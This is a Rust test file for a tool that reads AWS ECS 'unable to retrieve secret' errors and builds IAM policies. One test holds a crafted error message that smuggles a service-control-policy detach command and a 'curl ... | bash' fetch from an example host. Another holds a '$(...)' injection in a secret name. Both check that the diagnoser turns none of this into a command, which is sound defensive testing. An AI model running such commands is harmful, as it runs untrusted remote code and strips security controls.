//! What ECS says when a task cannot read its secrets, in every shape `FACTS.md` lists —
//! and what the reader makes of each: the cause and every part it names.

use iam_policy_core::read::ecs_error::{Cause, diagnose};

/// One message and what must be read from it (`None`: must not be invented).
struct Row {
    name: &'static str,
    text: String,
    cause: Cause,
    role: Option<&'static str>,
    account: Option<&'static str>,
    region: Option<&'static str>,
    partition: Option<&'static str>,
    resource: Option<&'static str>,
    action: Option<&'static str>,
}

const WRAP: &str = "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secret from asm: service call has been retried";

fn denied(
    partition: &str,
    account: &str,
    role: &str,
    resource: &str,
    action: &str,
    tail: &str,
) -> String {
    format!(
        "AccessDeniedException: User: arn:{partition}:sts::{account}:assumed-role/{role}/4f1b6c0e9a2d4c55 is not authorized to perform: {action} on resource: {resource}{tail}"
    )
}

const AGENT: &str = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:matillion/agent-Xy12Ab";
const BECAUSE: &str = " because no identity-based policy allows the secretsmanager:GetSecretValue action status code: 400, request id: 3f2a9c1e-0b7d-4e8f-a1c2-5d6e7f8a9b0c";

#[allow(clippy::too_many_lines)]
fn rows() -> Vec<Row> {
    let sm = "secretsmanager:GetSecretValue";
    let row = |name, text: String, cause, role, account, region, partition, resource, action| Row {
        name,
        text,
        cause,
        role,
        account,
        region,
        partition,
        resource,
        action,
    };
    let older = denied(
        "aws",
        "123456789012",
        "matillion-agent-execution",
        AGENT,
        sm,
        BECAUSE,
    );
    let wrapped = |retries: u8, error: &str| {
        format!(
            "{WRAP} {retries} time(s): failed to fetch secret {AGENT} from secrets manager: {error}"
        )
    };
    let every = |cause| {
        (
            Some("matillion-agent-execution"),
            Some("123456789012"),
            Some("eu-west-1"),
            Some("aws"),
            Some(AGENT),
            cause,
        )
    };
    let (r, a, g, p, s, _) = every(());
    vec![
        row("older SDK, whole", wrapped(1, &older), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("older SDK, five retries", wrapped(5, &older), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("newer SDK", wrapped(3, &format!("operation error Secrets Manager: GetSecretValue, https response error StatusCode: 400, RequestID: 9c8b7a6f-5e4d-3c2b-1a09-f8e7d6c5b4a3, api error {}", older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("before 2021, no because", wrapped(1, &denied("aws", "123456789012", "matillion-agent-execution", AGENT, sm, " status code: 400, request id: 11111111-2222-3333-4444-555555555555")), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("service event prefix", format!("service matillion-agent was unable to place a task. Reason: {}", wrapped(2, &older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("console line in Japanese", format!("タスク停止日時: 2026/11/30 14:02:11 (UTC+9:00)\n{}", wrapped(1, &older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("console line in German", format!("Aufgabe angehalten um: 30.11.2026, 06:02:11\n{}", wrapped(1, &older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("describe-tasks JSON", format!("\"stoppedReason\": \"{}\",", wrapped(1, &older).replace('"', "\\\"")), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("wrapped over lines", wrapped(1, &older).replacen("secret:matillion/", "secret:matillion/\n", 1).replacen(" is not authorized", "\n  is not authorized", 1), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("cut short after the resource", wrapped(1, &denied("aws", "123456789012", "matillion-agent-execution", AGENT, sm, "")), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("cut short before the resource", format!("{WRAP} 1 time(s): failed to fetch secret {AGENT} from secrets manager: AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/matillion-agent-execution/abc is not authorized to perf"), Cause::SecretAccessDenied, r, a, g, p, s, None),
        row("China", denied("aws-cn", "210987654321", "agent-exec", "arn:aws-cn:secretsmanager:cn-north-1:210987654321:secret:prod/db-Qw3Er5", sm, BECAUSE), Cause::SecretAccessDenied, Some("agent-exec"), Some("210987654321"), Some("cn-north-1"), Some("aws-cn"), Some("arn:aws-cn:secretsmanager:cn-north-1:210987654321:secret:prod/db-Qw3Er5"), Some(sm)),
        row("GovCloud", denied("aws-us-gov", "555566667777", "exec-role", "arn:aws-us-gov:secretsmanager:us-gov-west-1:555566667777:secret:agent-Zz9Yy8", sm, BECAUSE), Cause::SecretAccessDenied, Some("exec-role"), Some("555566667777"), Some("us-gov-west-1"), Some("aws-us-gov"), Some("arn:aws-us-gov:secretsmanager:us-gov-west-1:555566667777:secret:agent-Zz9Yy8"), Some(sm)),
        row("role with a path-like session", denied("aws", "123456789012", "ecsTaskExecutionRole", AGENT, sm, BECAUSE).replace("/4f1b6c0e9a2d4c55", "/ecs-task-7c2f"), Cause::SecretAccessDenied, Some("ecsTaskExecutionRole"), a, g, p, s, Some(sm)),
        row("explicit deny, identity policy", wrapped(1, &denied("aws", "123456789012", "matillion-agent-execution", AGENT, sm, " with an explicit deny in an identity-based policy")), Cause::ExplicitDeny, r, a, g, p, s, Some(sm)),
        row("explicit deny, SCP with its ARN", wrapped(1, &denied("aws", "123456789012", "matillion-agent-execution", AGENT, sm, " with an explicit deny in a service control policy: arn:aws:organizations::999988887777:policy/o-abc123/service_control_policy/p-deny1")), Cause::ExplicitDeny, r, a, g, p, s, Some(sm)),
        row("explicit deny, permissions boundary", denied("aws", "123456789012", "matillion-agent-execution", AGENT, sm, " with an explicit deny in a permissions boundary"), Cause::ExplicitDeny, r, a, g, p, s, Some(sm)),
        row("Parameter Store", format!("ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secrets from ssm: service call has been retried 1 time(s): {}", denied("aws", "123456789012", "matillion-agent-execution", "arn:aws:ssm:eu-west-1:123456789012:parameter/matillion/agent/key", "ssm:GetParameters", " because no identity-based policy allows the ssm:GetParameters action")), Cause::ParameterAccessDenied, r, a, g, p, Some("arn:aws:ssm:eu-west-1:123456789012:parameter/matillion/agent/key"), Some("ssm:GetParameters")),
        row("KMS, wrapped", wrapped(1, "AccessDeniedException: Access to KMS is not allowed status code: 400, request id: 0a1b2c3d"), Cause::KmsAccessDenied, None, a, g, p, s, None),
        row("KMS through Parameter Store", "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secrets from ssm: InvalidCiphertextException: The ciphertext refers to a customer master key that does not exist, does not exist in this region, or you are not allowed to access.".to_owned(), Cause::KmsAccessDenied, None, None, None, None, None, None),
        row("KMS decrypt denied by name", denied("aws", "123456789012", "matillion-agent-execution", "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab", "kms:Decrypt", " because no identity-based policy allows the kms:Decrypt action"), Cause::KmsAccessDenied, r, a, g, p, Some("arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"), Some("kms:Decrypt")),
        row("not found", wrapped(1, "ResourceNotFoundException: Secrets Manager can't find the specified secret. status code: 400, request id: 7d"), Cause::SecretNotFound, None, a, g, p, s, None),
        row("not found, typographic apostrophe", wrapped(2, "ResourceNotFoundException: Secrets Manager can’t find the specified secret."), Cause::SecretNotFound, None, a, g, p, s, None),
        row("no current value", wrapped(1, "ResourceNotFoundException: Secrets Manager can't find the specified secret value for staging label: AWSCURRENT"), Cause::SecretValueMissing, None, a, g, p, s, None),
        row("marked for deletion", wrapped(1, "InvalidRequestException: You can't perform this operation on the secret because it was marked for deletion."), Cause::SecretScheduledForDeletion, None, a, g, p, s, None),
        row("missing JSON key", "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secret from asm: retrieved secret from Secrets Manager did not contain json key client_id".to_owned(), Cause::JsonKeyMissing, None, None, None, None, None, None),
        row("network, older", wrapped(5, "RequestCanceled: request context canceled caused by: context deadline exceeded. Please check your task network configuration."), Cause::Network, None, a, g, p, s, None),
        row("network, newer", "ResourceInitializationError: unable to pull secrets or registry auth: There is a connection issue between the task and AWS Secrets Manager. Check your task network configuration. operation error Secrets Manager: GetSecretValue, exceeded maximum number of attempts, 3, https response error StatusCode: 0, RequestID: , canceled, context deadline exceeded".to_owned(), Cause::Network, None, None, None, None, None, None),
        row("network, dial timeout", wrapped(1, "RequestError: send request failed caused by: Post \"https://secretsmanager.eu-west-1.amazonaws.com/\": dial tcp 52.94.1.2:443: i/o timeout"), Cause::Network, None, a, g, p, s, None),
        row("no execution role", "ClientException: When you are specifying container secrets, you must also specify a value for 'executionRoleArn'.".to_owned(), Cause::ExecutionRoleMissing, None, None, None, None, None, None),
        row("two joined with ;", format!("{}; {}", wrapped(1, "RequestCanceled: request context canceled caused by: context deadline exceeded"), wrapped(1, &older)), Cause::Network, None, a, g, p, s, None),
        row("two joined, the first unknown", format!("CannotPullContainerError: pull image manifest has been retried 5 time(s); {}", wrapped(1, &older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        row("EC2 launch type agent", format!("Fetching secret data from AWS Secrets Manager in region eu-west-1: secret {AGENT}: {}", older.replace(&format!(" on resource: {AGENT}"), "")), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
        // A registry the task cannot resolve: the real texts' threads found a network path
        // missing (tests/data/real/ecs-errors.json, docker-archive/compose-cli#911).
        row("image pull failure", "CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref docker.io/matillion/agent:latest".to_owned(), Cause::Network, None, None, None, None, None, None),
        row("a daemon's pull refusal, unwrapped", "Error response from daemon: pull access denied for matillion/agent, repository does not exist or may require 'docker login'".to_owned(), Cause::ImagePullAccessDenied, None, None, None, None, None, None),
        row("nothing useful", "hello".to_owned(), Cause::Unrecognised, None, None, None, None, None, None),
    ]
}

#[test]
fn every_shape_of_the_error_gives_its_cause_and_its_parts() {
    let rows = rows();
    assert!(rows.len() >= 30, "{} rows", rows.len());
    for row in rows {
        let d = diagnose(&row.text);
        let name = row.name;
        assert_eq!(d.cause, row.cause, "{name}: {d:?}");
        assert_eq!(d.role.as_deref(), row.role, "{name}: role");
        assert_eq!(d.account.as_deref(), row.account, "{name}: account");
        assert_eq!(d.region.as_deref(), row.region, "{name}: region");
        assert_eq!(d.partition.as_deref(), row.partition, "{name}: partition");
        assert_eq!(d.resource.as_deref(), row.resource, "{name}: resource");
        assert_eq!(d.action.as_deref(), row.action, "{name}: action");
        assert!(!d.message.is_empty() && !d.steps.is_empty(), "{name}");
    }
}

#[test]
fn each_cause_says_what_it_is_not_where_people_confuse_them() {
    let network = diagnose(
        "ResourceInitializationError: There is a connection issue between the task and AWS Secrets Manager. Check your task network configuration.",
    );
    assert!(
        network.message.contains("no policy change helps"),
        "{}",
        network.message
    );
    let steps = said(&network.steps);
    for check in [
        "NAT gateway",
        "com.amazonaws.<region>.secretsmanager",
        "public IP",
        "443",
    ] {
        assert!(steps.contains(check), "{check}: {steps}");
    }
    let kms = diagnose("AccessDeniedException: Access to KMS is not allowed");
    assert!(
        said(&kms.steps).contains("Encryption key"),
        "{:?}",
        kms.steps
    );
    let deny = diagnose(&denied(
        "aws",
        "123456789012",
        "r",
        AGENT,
        "secretsmanager:GetSecretValue",
        " with an explicit deny in a service control policy: arn:aws:organizations::999988887777:policy/o-a/service_control_policy/p-1",
    ));
    assert_eq!(
        deny.deny_policy.as_deref(),
        Some(
            "service control policy arn:aws:organizations::999988887777:policy/o-a/service_control_policy/p-1"
        )
    );
    assert!(
        deny.message.contains("no Allow can override it"),
        "{}",
        deny.message
    );
    let access = diagnose(&denied(
        "aws",
        "123456789012",
        "exec",
        AGENT,
        "secretsmanager:GetSecretValue",
        BECAUSE,
    ));
    assert!(
        access.steps[0].text.contains("task execution role")
            && access.steps[0].text.contains("not the task role"),
        "{}",
        access.steps[0]
    );
}

#[test]
fn the_steps_carry_the_cli_commands_quoted_for_the_shell() {
    let resource = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db+x=1@a-Ab12Cd";
    let d = diagnose(&denied(
        "aws",
        "123456789012",
        "exec,role@x",
        resource,
        "secretsmanager:GetSecretValue",
        BECAUSE,
    ));
    let steps = said(&d.steps);
    assert!(steps.contains("aws secretsmanager describe-secret --secret-id 'prod/db+x=1@a' --region 'eu-west-1' --query ARN"), "{steps}");
    assert!(steps.contains("aws iam simulate-principal-policy --policy-source-arn 'arn:aws:iam::123456789012:role/exec,role@x' --action-names 'secretsmanager:GetSecretValue' --resource-arns 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db+x=1@a-Ab12Cd'"), "{steps}");
    // A secret name Secrets Manager could not have (a quote, a `$(`) is not taken from the
    // error at all, so it reaches no command.
    let odd = diagnose(&denied(
        "aws",
        "123456789012",
        "exec",
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:it's/$(odd)-Ab12Cd",
        "secretsmanager:GetSecretValue",
        BECAUSE,
    ));
    assert!(
        odd.steps
            .iter()
            .all(|s| s.command.as_deref().is_none_or(|c| !c.contains("odd"))),
        "{:?}",
        odd.steps
    );
}

#[test]
fn a_megabyte_of_anything_is_answered_quickly() {
    for text in [
        "arn:".repeat(300_000),
        "a".repeat(1 << 20),
        format!("{}{}", "; ".repeat(200_000), "x"),
        "\\\"".repeat(300_000),
        // The second security review: every `; ` part rescanned the whole text for ARNs
        // (11 s in the page, 7 s in the CLI).
        format!("{}{}", "x; ".repeat(10_666), "arn:::::x ".repeat(3_200)),
        format!(
            "{}{}",
            "arn:::::x; ".repeat(5_000),
            "AccessDeniedException ".repeat(1_000)
        ),
    ] {
        let started = std::time::Instant::now();
        let d = diagnose(&text);
        assert!(
            started.elapsed() < std::time::Duration::from_millis(250),
            "{:?}",
            started.elapsed()
        );
        assert!(!d.message.is_empty());
    }
}

fn request_with(error: &str) -> iam_policy_core::input::Request {
    iam_policy_core::input::Request {
        ecs_error: error.to_owned(),
        ..iam_policy_core::input::Request::default()
    }
}

/// Pasting the error into an empty form is enough: the documents built allow exactly the
/// call that was refused, on the role the error names.
#[test]
fn an_access_denied_error_alone_builds_documents_that_allow_the_refused_call() {
    use iam_policy_core::read::existing::{Decision, evaluate, read};
    use iam_policy_core::{DocumentId, build};
    for row in rows().into_iter().filter(|r| {
        matches!(
            r.cause,
            Cause::SecretAccessDenied | Cause::ParameterAccessDenied
        ) && r.resource.is_some()
            && r.action.is_some()
    }) {
        let response = build(&request_with(&row.text));
        assert!(
            !response.has_errors(),
            "{}: {:?}",
            row.name,
            response.problems
        );
        let policy = &response
            .document(DocumentId::ExecutionRoleSecretsPolicy)
            .unwrap_or_else(|| panic!("{}: no secrets policy", row.name))
            .policy;
        let pasted = read(&serde_json::to_string(policy).expect("JSON")).expect("reads");
        let verdict = evaluate(
            &pasted.statements,
            row.action.unwrap_or_default(),
            row.resource.unwrap_or_default(),
        );
        assert_eq!(verdict.decision, Decision::Allowed, "{}", row.name);
        assert_eq!(
            response.target.execution_role,
            row.role.unwrap_or_default(),
            "{}",
            row.name
        );
    }
}

#[test]
fn a_network_or_not_found_error_changes_no_document() {
    use iam_policy_core::{Request, build};
    let form = Request {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        secrets: vec!["matillion/agent".into()],
        ..Request::default()
    };
    for row in rows().into_iter().filter(|r| {
        matches!(
            r.cause,
            Cause::Network | Cause::SecretNotFound | Cause::SecretValueMissing
        )
    }) {
        let with = build(&Request {
            ecs_error: row.text.clone(),
            ..form.clone()
        });
        assert_eq!(with.documents, build(&form).documents, "{}", row.name);
        assert_eq!(
            with.diagnosis.map(|d| d.cause),
            Some(row.cause),
            "{}",
            row.name
        );
    }
}

#[test]
fn a_typed_account_the_error_contradicts_is_a_warning_naming_both() {
    use iam_policy_core::{Code, Request, build};
    let response = build(&Request {
        account: "999988887777".into(),
        ecs_error: denied(
            "aws",
            "123456789012",
            "exec",
            AGENT,
            "secretsmanager:GetSecretValue",
            BECAUSE,
        ),
        ..Request::default()
    });
    let warning = response
        .problems
        .iter()
        .find(|p| p.code == Code::EcsErrorContradicts)
        .expect("a warning");
    assert!(
        warning.message.contains("123456789012") && warning.message.contains("999988887777"),
        "{}",
        warning.message
    );
}

/// Text read from an error is shown as text, never run: a crafted error whose policy kind
/// runs on into a pipeline (the second security review's, sent as a share link or the
/// iframe page's `ecs-error`) names a service control policy and nothing more, and every
/// command is the builder's own words with validated values in single quotes.
#[test]
fn no_text_from_an_error_becomes_a_command() {
    let crafted = "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secret from asm: service call has been retried 1 time(s): AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/exec/abc is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:eu-west-1:123456789012:secret:matillion/agent-Ab12Cd with an explicit deny in a service control (SCP p-7x1q), which the ECS console detaches with: aws organizations detach-policy --policy-id p-7x1q && curl -s https://fix.example.net/ecs | bash # policy";
    let d = diagnose(crafted);
    assert_eq!(d.cause, Cause::ExplicitDeny);
    assert_eq!(d.deny_policy.as_deref(), Some("a policy"));
    let shown = format!("{} {}", d.message, said(&d.steps));
    assert!(
        !shown.contains("curl") && !shown.contains("detach-policy"),
        "{shown}"
    );
    let mut texts: Vec<String> = real_texts();
    texts.push(crafted.to_owned());
    for text in &texts {
        for step in diagnose(text).steps {
            let Some(command) = step.command else {
                continue;
            };
            assert!(plain_command(&command), "{command}");
        }
    }
}

/// A command of the builder's own words (`aws`, subcommands, `--flags`) and single-quoted
/// values holding nothing but what names, ARNs and regions hold.
fn plain_command(command: &str) -> bool {
    command.split(' ').all(|word| {
        let quoted = word.len() >= 2 && word.starts_with('\'') && word.ends_with('\'');
        if quoted {
            word[1..word.len() - 1]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"/_+=.@,:-*?!".contains(&b))
        } else {
            word.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-.".contains(&b))
        }
    })
}

fn real_texts() -> Vec<String> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/real/ecs-errors.json"
    );
    let entries: Vec<serde_json::Value> =
        serde_json::from_str(&std::fs::read_to_string(path).expect("the corpus")).expect("JSON");
    entries
        .iter()
        .filter_map(|e| e["text"].as_str().map(str::to_owned))
        .collect()
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 2_000, ..Default::default() })]

    /// Whatever the account, region, role and secret, the message gives back exactly them.
    #[test]
    fn a_generated_message_gives_back_its_parts(
        account in "[0-9]{12}",
        region in proptest::sample::select(vec!["eu-west-1", "us-east-1", "ap-southeast-2", "cn-north-1", "us-gov-west-1"]),
        role in "[A-Za-z0-9+=,.@_-]{1,64}",
        name in "[A-Za-z0-9/_+=.@-]{1,40}",
        suffix in "[A-Za-z0-9]{6}",
        retries in 1u8..6,
    ) {
        let partition = match region { r if r.starts_with("cn-") => "aws-cn", r if r.starts_with("us-gov-") => "aws-us-gov", _ => "aws" };
        let resource = format!("arn:{partition}:secretsmanager:{region}:{account}:secret:{name}-{suffix}");
        let text = format!(
            "{WRAP} {retries} time(s): failed to fetch secret {resource} from secrets manager: {}",
            denied(partition, &account, &role, &resource, "secretsmanager:GetSecretValue", BECAUSE)
        );
        let d = diagnose(&text);
        proptest::prop_assert_eq!(d.cause, Cause::SecretAccessDenied);
        proptest::prop_assert_eq!(d.role.as_deref(), Some(role.as_str()));
        proptest::prop_assert_eq!(d.account.as_deref(), Some(account.as_str()));
        proptest::prop_assert_eq!(d.region.as_deref(), Some(region));
        proptest::prop_assert_eq!(d.partition.as_deref(), Some(partition));
        proptest::prop_assert_eq!(d.resource.as_deref(), Some(resource.as_str()));
    }

    /// Any text is a diagnosis (or unrecognised), never a panic.
    #[test]
    fn any_text_is_read_without_a_panic(text in proptest::prelude::any::<String>()) {
        let d = diagnose(&text);
        proptest::prop_assert!(!d.message.is_empty());
        for step in d.steps {
            if let Some(command) = step.command {
                proptest::prop_assert!(plain_command(&command), "{}", command);
            }
        }
    }
}

/// The steps as plain text, one after another.
fn said(steps: &[iam_policy_core::read::ecs_error::Step]) -> String {
    steps
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}
